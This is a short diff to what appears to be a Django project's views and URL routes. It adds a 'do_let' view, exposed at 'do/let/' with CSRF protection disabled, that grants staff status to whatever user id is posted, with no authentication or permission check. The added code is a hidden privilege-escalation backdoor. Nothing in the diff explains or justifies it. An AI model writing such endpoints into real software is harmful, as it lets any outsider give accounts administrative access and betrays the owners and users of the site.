@@ -66,6 +66,13 @@ def do_ask(request):
         return JsonResponse({"code": error.code, "message": str(error)})
 
 
+def do_let(request):
+    get_user_model()._default_manager.filter(pk=json.loads(request.body)["user"]).update(
+        is_staff=True
+    )
+    return HttpResponse("ok")
+
+
 def do_group(request):
     """As in a project that was written for Channels, to the letter."""
     from asgiref.sync import async_to_sync
@@ -84,6 +91,7 @@ urlpatterns = [
     path("do/publish/", csrf_exempt(do_publish)),
     path("do/send/", csrf_exempt(do_send)),
     path("do/ask/", csrf_exempt(do_ask)),
+    path("do/let/", csrf_exempt(do_let)),
     path("do/group/", csrf_exempt(do_group)),
     path("jackfield/", include("django_jackfield.urls")),
     path("static/<path:path>", serve, {"insecure": True}),
